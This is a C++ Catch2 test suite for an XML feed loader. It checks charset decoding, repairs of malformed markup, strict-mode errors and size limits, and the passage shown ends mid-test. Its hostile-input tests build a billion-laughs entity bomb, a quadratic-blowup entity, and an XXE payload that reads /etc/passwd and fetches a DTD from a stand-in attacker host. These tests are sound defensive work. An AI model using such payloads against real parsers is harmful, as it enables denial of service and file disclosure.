// SPDX-License-Identifier: Apache-2.0
// detail::load_xml and decode_xml_bytes: character sets, every repair (its
// diagnostic, its result, its strict-mode error), hostile input and limits.
#include <catch2/catch.hpp>

#include <cstring>
#include <filesystem>
#include <fstream>
#include <random>
#include <sstream>
#include <string>
#include <string_view>
#include <vector>

#include <hrnews/io.hpp>

#include "test_support.hpp"
#include "feed/xml_input.hpp"

using hrnews::Diagnostic;
using hrnews::ParseError;
using hrnews::ReadOptions;
using hrnews::Severity;
using hrnews::detail::XmlInput;

namespace {

std::string fixture(const std::string& name) {
  const std::string path = std::string(HRNEWS_TEST_DATA_DIR) + "/xml/" + name;
  std::ifstream in(path, std::ios::binary);
  INFO("fixture " << path);
  REQUIRE(in);
  std::ostringstream out;
  out << in.rdbuf();
  return out.str();
}

XmlInput load(std::string_view bytes, const ReadOptions& options = {}) {
  return hrnews::detail::load_xml(bytes, options, "rss");
}

ReadOptions strict() {
  ReadOptions o;
  o.strict = true;
  return o;
}

/// `what()` of the ParseError loading throws; empty when it loads.
std::string error_of(std::string_view bytes, const ReadOptions& options = {}) {
  try {
    load(bytes, options);
  } catch (const ParseError& e) {
    return e.what();
  }
  return {};
}

std::vector<std::string> codes(const XmlInput& x) {
  std::vector<std::string> out;
  for (const Diagnostic& d : x.diagnostics) out.push_back(d.code);
  return out;
}

/// The only diagnostic with `code`.
Diagnostic diag(const XmlInput& x, const std::string& code) {
  std::vector<Diagnostic> found;
  for (const Diagnostic& d : x.diagnostics) {
    if (d.code == code) found.push_back(d);
  }
  INFO("diagnostic " << code);
  REQUIRE(found.size() == 1);
  CHECK(found[0].severity == Severity::warning);
  return found[0];
}

/// Checks the one diagnostic with `code`: message, line and column.
void check_diag(const XmlInput& x, const std::string& code, const std::string& message, std::size_t line,
                std::size_t column) {
  const Diagnostic d = diag(x, code);
  CHECK(d.message == message);
  CHECK(d.line == line);
  CHECK(d.column == column);
}

/// The document as compact XML, without declaration.
std::string serialized(const XmlInput& x) {
  std::ostringstream out;
  x.doc.save(out, "", pugi::format_raw | pugi::format_no_declaration);
  return out.str();
}

/// Text (PCDATA and CDATA) directly inside the first element called `name`.
std::string text_of(const XmlInput& x, const char* name) {
  const pugi::xml_node el =
      x.doc.find_node([name](pugi::xml_node n) {
        return n.type() == pugi::node_element && std::strcmp(n.name(), name) == 0;
      });
  INFO("element " << name);
  REQUIRE(el);
  std::string out;
  for (pugi::xml_node c = el.first_child(); c; c = c.next_sibling()) {
    if (c.type() == pugi::node_pcdata || c.type() == pugi::node_cdata) out += c.value();
  }
  return out;
}

/// 1-based line of the first `needle` in `text`.
std::size_t line_of(std::string_view text, std::string_view needle) {
  const std::size_t at = text.find(needle);
  REQUIRE(at != std::string_view::npos);
  std::size_t line = 1;
  for (std::size_t i = 0; i < at; ++i) line += text[i] == '\n';
  return line;
}

const char* const kTitle1252 = "Défense — “urgent” €5 œuvre";
const char* const kTitleWide = "Défense ✊🏽 عربي";

}  // namespace

// ---------------------------------------------------------------------------
// Clean input

TEST_CASE("Valid UTF-8 XML is parsed from the input itself, with no copy and no diagnostic", "[xml-input]") {
  const std::string bytes =
      "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<rss version=\"2.0\"><channel><title>A &amp; B &lt;3 &#233;&#x1F600;"
      "</title><description><![CDATA[<p>x & y</p>]]></description><!-- note --><?php echo 1; ?></channel></rss>\n";
  const XmlInput x = load(bytes);
  CHECK(x.diagnostics.empty());
  CHECK(x.text.empty());
  CHECK(x.encoding == "utf-8");
  CHECK(x.source(bytes).data() == bytes.data());
  CHECK(text_of(x, "title") == "A & B <3 é😀");
  CHECK(text_of(x, "description") == "<p>x & y</p>");
  CHECK(x.doc.child("rss").child("channel").child("title").next_sibling().type() == pugi::node_element);
  // Comments and PIs are dropped, CDATA is kept as CDATA.
  CHECK(serialized(x) ==
        "<rss version=\"2.0\"><channel><title>A &amp; B &lt;3 é😀</title><description><![CDATA[<p>x & y</p>]]>"
        "</description></channel></rss>");
}

TEST_CASE("Offsets of nodes refer to the text source() names", "[xml-input]") {
  const std::string clean = "<rss>\n  <item/>\n</rss>";
  const XmlInput a = load(clean);
  const std::ptrdiff_t at = a.doc.child("rss").child("item").offset_debug();
  CHECK(a.source(clean).substr(static_cast<std::size_t>(at), 4) == "item");

  const std::string repaired = "<rss>\n  <item a=b/>&nbsp;\n</rss>";
  const XmlInput b = load(repaired);
  REQUIRE_FALSE(b.text.empty());
  const std::ptrdiff_t at2 = b.doc.child("rss").child("item").offset_debug();
  CHECK(b.source(repaired).substr(static_cast<std::size_t>(at2), 4) == "item");
}

TEST_CASE("A UTF-8 byte-order mark is no repair", "[xml-input]") {
  const std::string bytes = "\xEF\xBB\xBF<?xml version=\"1.0\" encoding=\"UTF-8\"?><rss><x>é</x></rss>";
  const XmlInput x = load(bytes, strict());
  CHECK(x.diagnostics.empty());
  CHECK(x.encoding == "utf-8");
  CHECK(text_of(x, "x") == "é");
}

// ---------------------------------------------------------------------------
// Character sets

TEST_CASE("Each character set fixture decodes to UTF-8 with its declaration rewritten", "[xml-input]") {
  struct Case {
    const char* file;
    const char* encoding;
    const char* title;
  };
  const Case cases[] = {
      {"windows-1252.xml", "windows-1252", kTitle1252},
      {"iso-8859-15.xml", "iso-8859-15", "Œuvre à 5 € : Šárka Žák"},
      {"latin1-with-cp1252-quotes.xml", "windows-1252", kTitle1252},  // as browsers read ISO-8859-1
      {"utf-16le-bom.xml", "utf-16le", kTitleWide},
      {"utf-16be.xml", "utf-16be", kTitleWide},  // no byte-order mark: found from "<?" (XML appendix F)
      {"utf-32le-bom.xml", "utf-32le", kTitleWide},
      {"utf-32be.xml", "utf-32be", kTitleWide},
      {"koi8-r.xml", "koi8-r", "Правозащитники"},
      {"shift_jis.xml", "shift_jis", "人権ニュース"},
  };
  for (const Case& c : cases) {
    INFO(c.file);
    const XmlInput x = load(fixture(c.file), strict());  // choosing a character set is no repair
    CHECK(x.diagnostics.empty());
    CHECK(x.encoding == c.encoding);
    CHECK(text_of(x, "title") == c.title);
    CHECK(x.text.rfind("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<rss", 0) == 0);
  }
}

TEST_CASE("The caller's charset applies only when the input declares none", "[xml-input]") {
  ReadOptions o;
  o.charset = "windows-1252";
  const XmlInput hinted = load(fixture("no-declaration-1252.xml"), o);
  CHECK(hinted.diagnostics.empty());
  CHECK(hinted.encoding == "windows-1252");
  CHECK(text_of(hinted, "title") == kTitle1252);

  o.charset = "koi8-r";  // the declaration wins
  const XmlInput declared = load(fixture("windows-1252.xml"), o);
  CHECK(declared.encoding == "windows-1252");
  CHECK(text_of(declared, "title") == kTitle1252);

  const XmlInput unhinted = load(fixture("no-declaration-1252.xml"));
  CHECK(unhinted.encoding == "utf-8");
  check_diag(unhinted, "invalid-utf8", "invalid UTF-8 replaced by U+FFFD (6 occurrences)", 1, 37);
  CHECK(text_of(unhinted, "title") == "D\uFFFDfense \uFFFD \uFFFDurgent\uFFFD \uFFFD5 \uFFFDuvre");
}

TEST_CASE("A declaration of ISO-8859-1 on UTF-8 text is corrected", "[xml-input]") {
  const XmlInput x = load(fixture("mislabeled-utf8-as-latin1.xml"));
  CHECK(x.encoding == "utf-8");
  CHECK(text_of(x, "title") == kTitle1252);
  check_diag(x, "encoding-mismatch",
             "declared encoding \"ISO-8859-1\" contradicts the content, which is UTF-8; read as utf-8", 1, 1);
  CHECK(x.text.rfind("<?xml version=\"1.0\" encoding=\"UTF-8\"?>", 0) == 0);
}

TEST_CASE("A declaration of UTF-16 on 8-bit text is ignored", "[xml-input]") {
  const XmlInput x = load(fixture("mislabeled-utf16-decl-in-utf8.xml"));
  CHECK(x.encoding == "utf-8");
  CHECK(text_of(x, "title") == kTitle1252);
  check_diag(x, "encoding-mismatch", "declared encoding \"UTF-16\" contradicts the content; read as utf-8", 1, 1);
}

TEST_CASE("windows-1252 bytes declared as UTF-8 become U+FFFD", "[xml-input]") {
  const XmlInput x = load(fixture("mislabeled-1252-as-utf8.xml"));
  CHECK(x.encoding == "utf-8");
  CHECK(text_of(x, "title") == "caf\uFFFD cr\uFFFDme");
  check_diag(x, "invalid-utf8", "invalid UTF-8 replaced by U+FFFD (2 occurrences)", 2, 39);
}

TEST_CASE("A byte-order mark wins over the declaration", "[xml-input]") {
  const XmlInput x = load("\xEF\xBB\xBF<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><a>é</a>");
  CHECK(x.encoding == "utf-8");
  CHECK(text_of(x, "a") == "é");
  check_diag(x, "encoding-mismatch",
             "declared encoding \"ISO-8859-1\" contradicts the byte-order mark; read as utf-8", 1, 1);

  const std::string wide = fixture("utf-16le-bom.xml");
  std::string relabeled;  // the same UTF-16 document declaring windows-1252
  const std::string from = "UTF-16", to = "windows-1252";
  for (std::size_t i = 0; i < wide.size(); ++i) {
    bool match = i + from.size() * 2 <= wide.size();
    for (std::size_t k = 0; match && k < from.size(); ++k) {
      match = wide[i + 2 * k] == from[k] && wide[i + 2 * k + 1] == 0;
    }
    if (match) {
      for (char c : to) relabeled += std::string{c, '\0'};
      i += from.size() * 2 - 1;
    } else {
      relabeled += wide[i];
    }
  }
  const XmlInput y = load(relabeled);
  CHECK(y.encoding == "utf-16le");
  CHECK(text_of(y, "title") == kTitleWide);
  check_diag(y, "encoding-mismatch",
             "declared encoding \"windows-1252\" contradicts the byte-order mark; read as utf-16le", 1, 1);
}

TEST_CASE("An unknown character set is read as UTF-8", "[xml-input]") {
  const XmlInput x = load("<?xml version=\"1.0\" encoding=\"x-no-such-charset\"?><a>é</a>");
  CHECK(x.encoding == "utf-8");
  CHECK(text_of(x, "a") == "é");
  check_diag(x, "encoding-unknown", "unknown declared encoding \"x-no-such-charset\"; read as utf-8", 1, 1);
  CHECK(x.text == "<?xml version=\"1.0\" encoding=\"UTF-8\"?><a>é</a>");

  ReadOptions o;
  o.charset = "UTF-8//IGNORE";  // never handed to iconv
  const XmlInput y = load("<a>é</a>", o);
  check_diag(y, "encoding-unknown", "unknown charset \"UTF-8//IGNORE\"; read as utf-8", 1, 1);
}

TEST_CASE("Bytes invalid in the declared character set become U+FFFD", "[xml-input]") {
  // 0x81 is not a windows-1252 character; a lone surrogate is no UTF-16.
  const XmlInput x = load("<?xml version=\"1.0\" encoding=\"windows-1252\"?>\n<a>x\x81y\x81</a>");
  CHECK(text_of(x, "a") == "x\uFFFDy\uFFFD");
  check_diag(x, "invalid-bytes", "byte sequence invalid in windows-1252 replaced by U+FFFD (2 occurrences)", 2, 5);

  const std::string utf16("\xFF\xFE<\0a\0>\0x\0\x00\xD8y\0<\0/\0a\0>\0", 20);
  const XmlInput y = load(utf16);
  CHECK(y.encoding == "utf-16le");
  CHECK(text_of(y, "a") == "x\uFFFDy");
  check_diag(y, "invalid-bytes", "byte sequence invalid in utf-16le replaced by U+FFFD (1 occurrence)", 1, 5);
}

TEST_CASE("Pure ASCII declared in an 8-bit character set needs no transcoding", "[xml-input]") {
  const XmlInput x = load("<?xml version='1.0' encoding='ISO-8859-1'?><a>plain</a>");
  CHECK(x.encoding == "iso-8859-1");
  CHECK(x.diagnostics.empty());
  CHECK(x.text == "<?xml version='1.0' encoding='UTF-8'?><a>plain</a>");
}

TEST_CASE("decode_xml_bytes decodes and cleans without touching the markup", "[xml-input]") {
  std::vector<Diagnostic> diagnostics;
  std::string encoding;
  const std::string text =
      hrnews::detail::decode_xml_bytes(fixture("windows-1252.xml"), {}, "rss", diagnostics, encoding);
  CHECK(encoding == "windows-1252");
  CHECK(diagnostics.empty());
  CHECK(text.find(kTitle1252) != std::string::npos);
  CHECK(text.rfind("<?xml version=\"1.0\" encoding=\"windows-1252\"?>", 0) == 0);

  const std::string cleaned =
      hrnews::detail::decode_xml_bytes("\xEF\xBB\xBF<a>&nbsp;x\x02\xC3</a>", {}, "rss", diagnostics, encoding);
  CHECK(encoding == "utf-8");
  CHECK(cleaned == "<a>&nbsp;x\uFFFD</a>");
  REQUIRE(diagnostics.size() == 2);
  CHECK(diagnostics[0].code == "control-character");
  CHECK(diagnostics[1].code == "invalid-utf8");
}

// ---------------------------------------------------------------------------
// Repairs, one by one

TEST_CASE("Control characters other than TAB, LF and CR are removed", "[xml-input]") {
  const XmlInput x = load(std::string("<a t=\"1\x01\">x\x00y\tz\x1F\r\n</a>", 19));
  CHECK(text_of(x, "a") == "xy\tz\n");
  CHECK(x.doc.child("a").attribute("t").value() == std::string("1"));
  check_diag(x, "control-character", "control character removed (3 occurrences)", 1, 8);
}

TEST_CASE("Invalid UTF-8 becomes U+FFFD, one per maximal subpart", "[xml-input]") {
  // overlong, surrogate, truncated 3-byte sequence, lone continuation, beyond U+10FFFF
  const XmlInput x = load("<a>\xC0\xAF|\xED\xA0\x80|\xE2\x82|\x80|\xF4\x90\x80\x80|é</a>");
  CHECK(text_of(x, "a") ==
        "\uFFFD\uFFFD|\uFFFD\uFFFD\uFFFD|\uFFFD|\uFFFD|\uFFFD\uFFFD\uFFFD\uFFFD|é");
  check_diag(x, "invalid-utf8", "invalid UTF-8 replaced by U+FFFD (11 occurrences)", 1, 4);
}

TEST_CASE("A DOCTYPE is removed with its internal subset, keeping line numbers", "[xml-input]") {
  const std::string bytes =
      "<?xml version=\"1.0\"?>\n"
      "<!DOCTYPE rss PUBLIC \"-//Netscape Communications//DTD RSS 0.91//EN\"\n"
      "  \"http://my.netscape.com/publish/formats/rss-0.91.dtd\" [\n"
      "  <!-- a comment with ]> inside -->\n"
      "  <!ENTITY odd \"]>\">\n"
      "]>\n"
      "<rss version=\"0.91\"><channel><title>T</title></channel></rss>";
  const XmlInput x = load(bytes);
  CHECK(x.doc.child("rss").child("channel").child_value("title") == std::string("T"));
  check_diag(x, "doctype", "DOCTYPE removed; its entities are never expanded (1 occurrence)", 2, 1);
  CHECK(line_of(x.text, "<rss") == 7);
  CHECK(x.text.find("DOCTYPE") == std::string::npos);

  const XmlInput html = load("<!doctype html><html><body>x</body></html>");
  check_diag(html, "doctype", "DOCTYPE removed; its entities are never expanded (1 occurrence)", 1, 1);
}

TEST_CASE("HTML named entities are resolved to UTF-8", "[xml-input]") {
  const XmlInput x = load(
      "<a title=\"&laquo;&QUOT;&raquo;\">&nbsp;&eacute;&rsquo;&hellip;&euro;&LT;&nvlt;&NewLine;&fjlig;&zwnj;</a>");
  CHECK(text_of(x, "a") == "\u00A0é’…€<<\u20D2\nfj\u200C");
  CHECK(x.doc.child("a").attribute("title").value() == std::string("«\"»"));
  check_diag(x, "html-entity", "HTML entity &laquo; resolved (13 occurrences)", 1, 11);
  CHECK(x.text.find("&lt;&lt;\u20D2") != std::string::npos);  // markup characters stay escaped
}

TEST_CASE("html_entity knows every HTML 5 name and nothing else", "[xml-input]") {
  using hrnews::detail::html_entity;
  CHECK(html_entity("nbsp") == "\u00A0");
  CHECK(html_entity("AElig") == "Æ");  // first row
  CHECK(html_entity("zwnj") == "\u200C");  // last row
  CHECK(html_entity("CounterClockwiseContourIntegral") == "∳");
  CHECK(html_entity("NotEqualTilde") == "\u2242\u0338");  // two code points
  CHECK(html_entity("amp") == "&");
  CHECK(html_entity("Nbsp").empty());  // case matters
  CHECK(html_entity("nbsp;").empty());
  CHECK(html_entity("").empty());
  CHECK(html_entity("zzzz").empty());
  CHECK(html_entity("AAAA").empty());
}

TEST_CASE("XML's five entities and valid character references are left to pugixml", "[xml-input]") {
  const std::string bytes = "<a b=\"&quot;&apos;\">&lt;&gt;&amp;&#65;&#x42;&#x00043;&#x10FFFF;&#9;</a>";
  const XmlInput x = load(bytes);
  CHECK(x.diagnostics.empty());
  CHECK(x.text.empty());
  CHECK(text_of(x, "a") == "<>&ABC\U0010FFFF\t");
  CHECK(x.doc.child("a").attribute("b").value() == std::string("\"'"));
}

TEST_CASE("Invalid character references are replaced", "[xml-input]") {
  const XmlInput x =
      load("<a>&#0;|&#xD800;|&#x110000;|&#99999999999999999999;|&#xFFFE;|&#1;|&#150;&#x93;&#x81;|&#X41;&#X3C;</a>");
  // Not XML characters become U+FFFD; windows-1252 codes written as code points are read as
  // windows-1252 (0x81 has none and stays); HTML's uppercase "&#X" is resolved.
  CHECK(text_of(x, "a") == "\uFFFD|\uFFFD|\uFFFD|\uFFFD|\uFFFD|\uFFFD|–“\u0081|A<");
  check_diag(x, "invalid-character-reference", "invalid character reference &#0; replaced (10 occurrences)", 1, 4);
  CHECK(x.text.find("|A&lt;</a>") != std::string::npos);
}

TEST_CASE("Undefined entities are left as text, whatever a DOCTYPE declared", "[xml-input]") {
  const XmlInput x =
      load("<!DOCTYPE a [<!ENTITY mine \"expanded\">]>\n<a href=\"?x=1&mine;\">&mine; &nbspx; &a.b-c:d;</a>");
  CHECK(text_of(x, "a") == "&mine; &nbspx; &a.b-c:d;");
  CHECK(x.doc.child("a").attribute("href").value() == std::string("?x=1&mine;"));
  check_diag(x, "undefined-entity", "undefined entity &mine; left as text (4 occurrences)", 2, 14);
}

TEST_CASE("A bare ampersand is escaped", "[xml-input]") {
  const XmlInput x =
      load("<rss>\n<a href=\"/s?a=1&b=2&copy=3\">AT&T</a>\n<b>R&D & more &#; &#x; &#12 &nbsp &</b>\n</rss>");
  CHECK(x.doc.child("rss").child("a").attribute("href").value() == std::string("/s?a=1&b=2&copy=3"));
  CHECK(text_of(x, "a") == "AT&T");
  CHECK(text_of(x, "b") == "R&D & more &#; &#x; &#12 &nbsp &");
  check_diag(x, "bare-ampersand", "unescaped \"&\" escaped (10 occurrences)", 2, 16);
}

TEST_CASE("A '<' that starts no markup is escaped", "[xml-input]") {
  const XmlInput x = load("<a>1 < 2, x<3, <<b>bold</b>, <!x>, <?>, </ >, a<b c</a>");
  CHECK(serialized(x) == "<a>1 &lt; 2, x&lt;3, &lt;<b>bold</b>, &lt;!x&gt;, &lt;?&gt;, &lt;/ &gt;, a&lt;b c</a>");
  check_diag(x, "bare-less-than", "unescaped \"<\" escaped (7 occurrences)", 1, 6);
}

TEST_CASE("Junk before the root element is removed", "[xml-input]") {
  const std::string bytes =
      "<br />\n<b>Warning</b>:  Cannot modify header information in <b>/srv/feed.php</b> on line <b>3</b><br />\n"
      "<?xml version=\"1.0\" encoding=\"windows-1252\"?>\n<rss><title>caf\xE9</title></rss>";
  const XmlInput x = load(bytes);
  CHECK(x.encoding == "windows-1252");  // the declaration after the junk still counts
  CHECK(text_of(x, "title") == "café");
  check_diag(x, "junk-before-root", "text before the root element removed (1 occurrence)", 1, 1);
  CHECK(line_of(x.text, "<rss>") == 4);

  const XmlInput y = load("\xEF\xBB\xBF\xEF\xBB\xBFnoise <rss/>");  // a second byte-order mark is junk
  CHECK(y.doc.child("rss"));
  check_diag(y, "junk-before-root", "text before the root element removed (1 occurrence)", 1, 4);
}

TEST_CASE("Junk after the root element is removed", "[xml-input]") {
  const XmlInput x = load("<rss><a/></rss>\n<!-- fine --><?pi fine?>\n<rss>a second document</rss>");
  CHECK(serialized(x) == "<rss><a/></rss>");
  check_diag(x, "junk-after-root", "text after the root element removed (1 occurrence)", 3, 1);
}

TEST_CASE("Malformed attributes are repaired", "[xml-input]") {
  const XmlInput x = load("<html><img src=a.png alt=\"x\"title='y' hidden data-x=\"1\" / \"/><p a=>z</p></html>");
  const pugi::xml_node img = x.doc.child("html").child("img");
  CHECK(img.attribute("src").value() == std::string("a.png"));
  CHECK(img.attribute("alt").value() == std::string("x"));
  CHECK(img.attribute("title").value() == std::string("y"));
  CHECK(img.attribute("hidden"));
  CHECK(img.attribute("data-x").value() == std::string("1"));
  CHECK(x.doc.child("html").child("p").attribute("a"));
  check_diag(x, "attribute-syntax", "malformed attribute in <img> repaired (6 occurrences)", 1, 16);

  const XmlInput y = load("<a href=/x/?q=\"1\"&amp;b/>");
  CHECK(y.doc.child("a").attribute("href").value() == std::string("/x/?q=\"1\"&b"));
}

TEST_CASE("Mismatched end tags are repaired", "[xml-input]") {
  const XmlInput closes = load("<rss><item><b>bold</item><p>x<br>y</p></rss>");
  CHECK(serialized(closes) == "<rss><item><b>bold</b></item><p>x<br>y</br></p></rss>");
  check_diag(closes, "mismatched-end-tag", "end tag </item> also closed <b> (2 occurrences)", 1, 19);

  const XmlInput recased = load("<rss><Item>x</item></rss>");
  CHECK(serialized(recased) == "<rss><Item>x</Item></rss>");
  check_diag(recased, "mismatched-end-tag", "end tag </item> read as </Item> (1 occurrence)", 1, 13);

  const XmlInput dropped = load("<rss>\n<a>x</b></a></rss>");
  CHECK(serialized(dropped) == "<rss>\n<a>x</a></rss>");  // white-space-only text is kept (mixed content)
  check_diag(dropped, "mismatched-end-tag", "end tag </b> matched no open element and was removed (1 occurrence)",
             2, 5);

  const XmlInput junk = load("<rss><a>x</a foo></rss>");
  CHECK(serialized(junk) == "<rss><a>x</a></rss>");
  check_diag(junk, "mismatched-end-tag", "malformed end tag </a> repaired (1 occurrence)", 1, 10);
}

TEST_CASE("A truncated document is closed", "[xml-input]") {
  const XmlInput x = load("<rss><channel>\n<item><title>Cut he");
  CHECK(serialized(x) == "<rss><channel>\n<item><title>Cut he</title></item></channel></rss>");
  check_diag(x, "truncated", "input is truncated; closed 4 open elements, innermost <title>", 2, 20);

  const XmlInput in_tag = load("<rss><item><link href=\"http://x");
  CHECK(serialized(in_tag) == "<rss><item/></rss>");
  check_diag(in_tag, "truncated", "input is truncated; closed 2 open elements, innermost <item>", 1, 12);

  const XmlInput in_cdata = load("<rss><d><![CDATA[<p>half");
  CHECK(text_of(in_cdata, "d") == "<p>half");
  check_diag(in_cdata, "truncated", "input is truncated; closed 2 open elements, innermost <d>", 1, 25);

  const XmlInput in_comment = load("<rss><d>x<!-- half");
  CHECK(serialized(in_comment) == "<rss><d>x</d></rss>");

  for (const char* cut : {"<rss>x</", "<rss>x</rs", "<rss>x<", "<rss>x<!-", "<rss>x<![CD", "<rss>x<?", "<rss>x<?p"}) {
    INFO(cut);
    const XmlInput y = load(cut);
    CHECK(serialized(y) == "<rss>x</rss>");
    CHECK(codes(y) == std::vector<std::string>{"truncated"});
  }

  const XmlInput after_root = load("<rss/><!-- cut");
  check_diag(after_root, "truncated", "input is truncated", 1, 15);
}

TEST_CASE("An XML declaration anywhere but first is removed", "[xml-input]") {
  const XmlInput x = load("<!-- first --><?xml version=\"1.0\"?><rss><?xml version=\"1.0\"?>x</rss>");
  CHECK(serialized(x) == "<rss>x</rss>");
  check_diag(x, "misplaced-declaration", "misplaced XML declaration removed (2 occurrences)", 1, 15);
}

TEST_CASE("Each kind of repair is one diagnostic, in the order of first occurrence", "[xml-input]") {
  const XmlInput x = load("<rss>\n<a>&amp &nbsp; &</a>\n<b>\x01 &nbsp; \x02</b>\n</rss>");
  CHECK(codes(x) == std::vector<std::string>{"bare-ampersand", "html-entity", "control-character"});
  check_diag(x, "bare-ampersand", "unescaped \"&\" escaped (2 occurrences)", 2, 4);
  check_diag(x, "html-entity", "HTML entity &nbsp; resolved (2 occurrences)", 2, 9);
  check_diag(x, "control-character", "control character removed (2 occurrences)", 3, 4);
}

TEST_CASE("Strict mode turns the first repair into an error with its place", "[xml-input]") {
  struct Case {
    std::string input;
    std::string what;
  };
  const std::vector<Case> cases = {
      {"<a>x\x01</a>", "<input>:1:5: rss: control character removed (strict mode)"},
      {"<a>\xFF</a>", "<input>:1:4: rss: invalid UTF-8 replaced by U+FFFD (strict mode)"},
      {"<!DOCTYPE a><a/>", "<input>:1:1: rss: DOCTYPE removed; its entities are never expanded (strict mode)"},
      {"<a>\n &nbsp;</a>", "<input>:2:2: rss: HTML entity &nbsp; resolved (strict mode)"},
      {"<a>&lol;</a>", "<input>:1:4: rss: undefined entity &lol; left as text (strict mode)"},
      {"<a>&#0;</a>", "<input>:1:4: rss: invalid character reference &#0; replaced (strict mode)"},
      {"<a>AT&T</a>", "<input>:1:6: rss: unescaped \"&\" escaped (strict mode)"},
      {"<a>1 < 2</a>", "<input>:1:6: rss: unescaped \"<\" escaped (strict mode)"},
      {"junk<a/>", "<input>:1:1: rss: text before the root element removed (strict mode)"},
      {"<a/>junk", "<input>:1:5: rss: text after the root element removed (strict mode)"},
      {"<a b=c/>", "<input>:1:6: rss: malformed attribute in <a> repaired (strict mode)"},
      {"<a><b></a>", "<input>:1:7: rss: end tag </a> also closed <b> (strict mode)"},
      {"<a><b>", "<input>:1:7: rss: input is truncated; closed 2 open elements, innermost <b> (strict mode)"},
      {"<a><?xml version='1.0'?></a>", "<input>:1:4: rss: misplaced XML declaration removed (strict mode)"},
      {"<?xml version=\"1.0\" encoding=\"x-bogus\"?><a/>",
       "<input>:1:1: rss: unknown declared encoding \"x-bogus\"; read as utf-8 (strict mode)"},
      {"\xEF\xBB\xBF<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><a/>",
       "<input>:1:1: rss: declared encoding \"ISO-8859-1\" contradicts the byte-order mark; read as utf-8"
       " (strict mode)"},
      {"<?xml version=\"1.0\" encoding=\"windows-1252\"?><a>\x81</a>",
       "<input>:1:49: rss: byte sequence invalid in windows-1252 replaced by U+FFFD (strict mode)"},
      {"\xEF\xBB\xBF<a>&</a>", "<input>:1:7: rss: unescaped \"&\" escaped (strict mode)"},  // columns count the BOM
  };
  for (const Case& c : cases) {
    INFO(c.input);
    CHECK(error_of(c.input, strict()) == c.what);
    CHECK(error_of(c.input).empty());
  }
  ReadOptions named = strict();
  named.file_name = "feed.xml";
  CHECK(error_of("<a>&</a>", named) == "feed.xml:1:4: rss: unescaped \"&\" escaped (strict mode)");
}

// ---------------------------------------------------------------------------
// Hostile input

TEST_CASE("Billion laughs expands nothing", "[xml-input]") {
  std::string bytes = "<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n <!ENTITY lol \"lol\">\n";
  for (int i = 1; i <= 9; ++i) {
    bytes += " <!ENTITY lol" + std::to_string(i) + " \"";
    for (int k = 0; k < 10; ++k) bytes += "&lol" + (i == 1 ? std::string() : std::to_string(i - 1)) + ";";
    bytes += "\">\n";
  }
  bytes += "]>\n<lolz>&lol9;</lolz>";
  const XmlInput x = load(bytes);
  CHECK(text_of(x, "lolz") == "&lol9;");
  CHECK(x.text.size() < bytes.size());
  CHECK(codes(x) == std::vector<std::string>{"doctype", "undefined-entity"});
  CHECK(line_of(x.text, "<lolz>") == 14);
}

TEST_CASE("Quadratic blowup stays linear", "[xml-input]") {
  const std::size_t n = 50000;
  std::string bytes = "<!DOCTYPE kaboom [<!ENTITY a \"" + std::string(n, 'x') + "\">]>\n<kaboom>";
  for (std::size_t i = 0; i < n; ++i) bytes += "&a;";
  bytes += "</kaboom>";
  const XmlInput x = load(bytes);
  CHECK(text_of(x, "kaboom").size() == 3 * n);
  CHECK(x.text.size() < 2 * bytes.size());
  check_diag(x, "undefined-entity", "undefined entity &a; left as text (50000 occurrences)", 2, 9);
}

TEST_CASE("External entities are never fetched or read", "[xml-input]") {
  const std::string bytes =
      "<?xml version=\"1.0\"?>\n"
      "<!DOCTYPE rss [\n"
      "  <!ENTITY xxe SYSTEM \"file:///etc/passwd\">\n"
      "  <!ENTITY % remote SYSTEM \"http://attacker.invalid/evil.dtd\">\n"
      "  %remote;\n"
      "]>\n"
      "<rss><title>&xxe;</title><link href=\"&xxe;\"/></rss>";
  const XmlInput x = load(bytes);
  CHECK(text_of(x, "title") == "&xxe;");
  CHECK(x.doc.child("rss").child("link").attribute("href").value() == std::string("&xxe;"));
  CHECK(serialized(x).find("root:") == std::string::npos);
  CHECK(x.text.find("root:") == std::string::npos);
}

TEST_CASE("Deep nesting is a clean error", "[xml-input]") {
  std::string deep;
  for (int i = 0; i < 100000; ++i) deep += "<a>";
  CHECK(error_of(deep) == "<input>:1:769: rss: nesting deeper than 256 levels");
  for (int i = 0; i < 100000; ++i) deep += "</a>";
  CHECK(error_of(deep) == "<input>:1:769: rss: nesting deeper than 256 levels");

  ReadOptions o;
  o.limits.max_depth = 3;
  CHECK(error_of("<a><b><c>x</c></b></a>", o).empty());
  CHECK(error_of("<a><b><c><d/></c></b></a>", o) == "<input>:1:10: rss: nesting deeper than 3 levels");
  try {
    load("<a>\n<b><c>\n  <d>", o);
    FAIL("no error");
  } catch (const ParseError& e) {
    CHECK(e.line() == 3);
    CHECK(e.column() == 3);
    CHECK(e.offset() == std::size_t{13});
  }
}

TEST_CASE("Endless mismatched end tags under a deep stack are a clean error", "[xml-input]") {
  std::string bytes;
  for (int i = 0; i < 256; ++i) bytes += "<a>";
  for (int i = 0; i < 200000; ++i) bytes += "</b>";  // each would compare 256 open elements
  const std::string what = error_of(bytes);
  CHECK(what.rfind("<input>:1:", 0) == 0);
  CHECK(what.size() > 35);
  CHECK(what.substr(what.size() - 35) == ": rss: too many mismatched end tags");
}

TEST_CASE("Input and string limits are errors", "[xml-input]") {
  ReadOptions o;
  o.limits.max_input_bytes = 8;
  CHECK(error_of("<a>x</a>", o).empty());
  CHECK(error_of("<a>xy</a>", o) == "<input>: rss: input is 9 bytes, over the limit of 8 bytes");

  ReadOptions s;
  s.limits.max_string_bytes = 10;
  CHECK(error_of("<a b=\"0123456789\">0123456789</a>", s).empty());
  CHECK(error_of("<a>\n0123456789</a>", s) == "<input>:1:4: rss: string is 11 bytes, over the limit of 10 bytes");
  CHECK(error_of("<a>\n<b c=\"01234567890\"/></a>", s) ==
        "<input>:2:2: rss: string is 11 bytes, over the limit of 10 bytes");
  CHECK(error_of("<a><![CDATA[01234567890]]></a>", s) ==
        "<input>:1:13: rss: string is 11 bytes, over the limit of 10 bytes");
  CHECK(error_of("<a>&amp;&amp;&amp;</a>", s).empty());  // counted after decoding
}

TEST_CASE("Input that is not XML is a clean error", "[xml-input]") {
  CHECK(error_of("") == "<input>: rss: empty input");
  CHECK(error_of(" \r\n\t ") == "<input>: rss: empty input");
